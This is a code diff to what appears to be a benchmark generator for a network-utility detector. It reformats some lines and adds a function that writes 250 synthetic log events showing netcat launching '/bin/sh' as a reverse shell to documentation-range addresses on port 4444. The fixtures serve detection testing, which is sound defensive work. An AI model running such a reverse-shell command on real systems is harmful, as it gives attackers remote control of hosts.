@@ -39,7 +39,10 @@ function line(i, binary, args, parent) {
           container: {
             id: "containerd://6f1c2e0b9a8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b",
             name: "checkout-api",
-            image: { id: "sha256:3b1f0c9e7d2a", name: "123456789012.dkr.ecr.us-east-1.amazonaws.com/checkout-api:1.42.0" },
+            image: {
+              id: "sha256:3b1f0c9e7d2a",
+              name: "123456789012.dkr.ecr.us-east-1.amazonaws.com/checkout-api:1.42.0",
+            },
             start_time: "2026-11-28T08:12:44Z",
             pid: 1,
           },
@@ -85,8 +88,38 @@ export function generate(dir, batches = 10, events = 5000) {
       logEvents,
     };
     const file = join(dir, `batch-${b}.json`);
-    writeFileSync(file, JSON.stringify({ awslogs: { data: gzipSync(JSON.stringify(payload)).toString("base64") } }));
+    writeFileSync(
+      file,
+      JSON.stringify({ awslogs: { data: gzipSync(JSON.stringify(payload)).toString("base64") } }),
+    );
     files.push(file);
   }
   return { files, utilities };
+}
+
+/** One busy batch: `signals` distinct reverse shells (distinct targets), so nothing aggregates. */
+export function generateBusy(dir, signals = 250) {
+  mkdirSync(dir, { recursive: true });
+  const logEvents = [];
+  for (let i = 0; i < signals; i++) {
+    logEvents.push({
+      id: String(39_000_000_000_000_000_000_000_000_000_000_000_000_000_000n + BigInt(i)),
+      timestamp: Date.UTC(2026, 10, 28, 11) + i,
+      message: line(i, "/tmp/nc", `-e /bin/sh 198.51.${100 + (i >> 8)}.${i & 255} 4444`, "/tmp/.x/loader"),
+    });
+  }
+  const payload = {
+    messageType: "DATA_MESSAGE",
+    owner: "123456789012",
+    logGroup: "/aws/containerinsights/prod-eks/application",
+    logStream: "tetragon-bench-busy",
+    subscriptionFilters: ["netutil-detector"],
+    logEvents,
+  };
+  const file = join(dir, "busy.json");
+  writeFileSync(
+    file,
+    JSON.stringify({ awslogs: { data: gzipSync(JSON.stringify(payload)).toString("base64") } }),
+  );
+  return file;
 }
